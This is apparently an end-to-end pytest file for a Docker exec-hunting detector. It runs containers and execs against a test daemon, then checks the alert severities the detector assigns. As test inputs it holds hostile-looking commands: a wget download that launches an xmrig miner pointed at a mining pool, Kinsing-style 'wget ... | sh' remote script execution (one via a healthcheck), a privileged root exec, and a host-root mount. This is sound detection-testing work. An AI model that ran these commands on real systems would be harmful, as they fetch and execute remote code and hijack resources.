"""End to end on a real Docker daemon: run containers and execs through the SDK, capture the daemon's
events and debug log, hunt both files with the CLI and check the alerts."""

from __future__ import annotations

import json
import time
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from execguard.cli import app
from execguard.model import severity_rank
from execguard.testing.dockerd import IMAGE, Dockerd, start_dockerd

pytestmark = pytest.mark.docker

BENIGN = ["cat", "/etc/hostname"]
ROOT = ["sh", "-c", "id; cat /proc/1/status"]
MINER = [
    "sh",
    "-c",
    "wget -q -O /tmp/xmrig http://198.51.100.9/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig -o stratum+tcp://pool.example:3333",
]
KINSING = ["sh", "-c", "wget -q -O - http://203.0.113.7/x.sh | sh"]
HEALTH = "wget -q -O - http://203.0.113.7/h.sh | sh"


@dataclass
class Capture:
    web_name: str
    web_id: str
    kinsing_name: str
    mount_name: str
    health_name: str
    exec_ids: dict[str, str]
    events_file: Path
    log_file: Path


@pytest.fixture(scope="module")
def capture(docker_daemon: Dockerd, tmp_path_factory: pytest.TempPathFactory) -> Capture:
    client = docker_daemon.client()
    api = client.api
    tag = uuid.uuid4().hex[:8]
    since = int(time.time()) - 1
    web = client.containers.run(IMAGE, ["sleep", "300"], detach=True, network_mode="none", name=f"web-{tag}")

    def run_exec(cmd: list[str], ref: str = web.id, **kw: Any) -> str:
        exec_id: str = api.exec_create(ref, cmd, **kw)["Id"]
        api.exec_start(exec_id)  # the miner fails (no network), the privileged one may lack caps: fine
        return exec_id

    exec_ids = {
        "benign": run_exec(BENIGN, ref=web.name),  # by name, the others by ID
        "root": run_exec(ROOT, user="0", privileged=True),
        "miner": run_exec(MINER),
    }
    kinsing = client.containers.create(IMAGE, entrypoint=KINSING[:2], command=KINSING[2:], network_mode="none", name=f"kinsing-{tag}")
    kinsing.start()
    kinsing.wait(timeout=60)
    # created only, never started: the create call is what we look for
    client.containers.create(IMAGE, ["sleep", "1"], volumes=["/:/host"], network_mode="none", name=f"mount-{tag}")
    # a benign command whose HEALTHCHECK the daemon would run in the container every 30 s
    check = {"test": ["CMD-SHELL", HEALTH], "interval": 30_000_000_000}
    client.containers.create(IMAGE, ["sleep", "1"], network_mode="none", name=f"health-{tag}", healthcheck=check)

    out = tmp_path_factory.mktemp("docker-capture")
    until = int(time.time()) + 1  # the daemon closes the stream once this second has passed
    events_file = out / "docker-events.jsonl"
    with events_file.open("w") as f:
        for ev in client.events(since=since, until=until, decode=True):
            f.write(json.dumps(ev) + "\n")  # what `docker events --format '{{json .}}'` prints
    log_file = out / "dockerd-debug.log"
    log_file.write_bytes(docker_daemon.log_path.read_bytes())
    return Capture(web.name, web.id, kinsing.name, f"mount-{tag}", f"health-{tag}", exec_ids, events_file, log_file)


def hunt(path: Path, tmp_path: Path) -> list[dict[str, Any]]:
    out = tmp_path / f"{path.stem}.alerts.jsonl"
    result = CliRunner().invoke(app, ["hunt", "-o", "jsonl", "--quiet", "--out", str(out), str(path)])
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in out.read_text().splitlines()]


def by_exec(alerts: list[dict[str, Any]], exec_id: str) -> list[dict[str, Any]]:
    return [a for a in alerts if a["event_id"] == exec_id]


def test_debug_log_alerts(capture: Capture, tmp_path: Path) -> None:
    alerts = hunt(capture.log_file, tmp_path)
    ids = capture.exec_ids

    (benign,) = by_exec(alerts, ids["benign"])
    assert benign["command"] == BENIGN and benign["source"]["format"] == "dockerd-log"
    assert benign["target"]["container"] == capture.web_name
    assert benign["severity"] in ("info", "low")

    (root,) = by_exec(alerts, ids["root"])
    assert root["command"] == ROOT
    assert (root["privileged"], root["run_as_user"]) == (True, "0")
    assert root["target"]["container"] == root["target"]["container_id"] == capture.web_id
    assert {"docker-exec-privileged", "docker-exec-root"} <= {r["rule_id"] for r in root["rules"]}
    assert root["severity"] in ("high", "critical")

    (miner,) = by_exec(alerts, ids["miner"])
    assert miner["command"] == MINER  # the exact argv: one element holding the whole script
    assert miner["severity"] in ("high", "critical")

    (kinsing,) = [a for a in alerts if a["action"] == "create" and a["target"]["container"] == capture.kinsing_name]
    assert kinsing["command"] == KINSING and kinsing["target"]["image"] == IMAGE
    assert kinsing["severity"] in ("high", "critical")

    (mount,) = [a for a in alerts if a["action"] == "create" and a["target"]["container"] == capture.mount_name]
    assert mount["rule_id"] == "docker-create-host-mount" and mount["severity"] == "high"
    assert "/:/host" in mount["reasons"][0]

    (health,) = [a for a in alerts if a["target"]["container"] == capture.health_name]
    assert (health["action"], health["command_origin"]) == ("create", "healthcheck")
    assert health["command"] == ["/bin/sh", "-c", HEALTH] and health["severity"] == "critical"

    assert severity_rank(benign["severity"]) < severity_rank(root["severity"])
    assert severity_rank(benign["severity"]) < severity_rank(miner["severity"])


def test_events_alerts(capture: Capture, tmp_path: Path) -> None:
    alerts = hunt(capture.events_file, tmp_path)
    ids = capture.exec_ids
    for exec_id in ids.values():
        assert len(by_exec(alerts, exec_id)) == 1  # exec_create and exec_start fold into one alert

    (benign,) = by_exec(alerts, ids["benign"])
    assert benign["command"] == BENIGN and benign["source"]["format"] == "docker-events"
    assert (benign["target"]["container"], benign["target"]["container_id"]) == (capture.web_name, capture.web_id)
    assert benign["target"]["image"] == IMAGE
    assert benign["severity"] in ("info", "low")

    (miner,) = by_exec(alerts, ids["miner"])
    assert miner["command"] == " ".join(MINER).split()  # argv boundaries are lost in events
    assert miner["severity"] in ("high", "critical")
    assert severity_rank(benign["severity"]) < severity_rank(miner["severity"])


def test_second_daemon_runs_beside_and_cleans_up(docker_daemon: Dockerd) -> None:
    other = start_dockerd(image=False)
    try:
        assert other.socket_path != docker_daemon.socket_path and other.ping() and docker_daemon.ping()
        assert len(str(other.exec_root)) < 40  # unix socket paths under it must stay short
    finally:
        other.stop()
    assert not other.base.exists() and not other.exec_root.exists()
    marker = str(other.exec_root).encode()
    left = [p for p in Path("/proc").iterdir() if p.name.isdigit() and marker in _cmdline(p)]
    assert left == []
    assert docker_daemon.ping()


def _cmdline(proc: Path) -> bytes:
    try:
        return (proc / "cmdline").read_bytes()
    except OSError:
        return b""
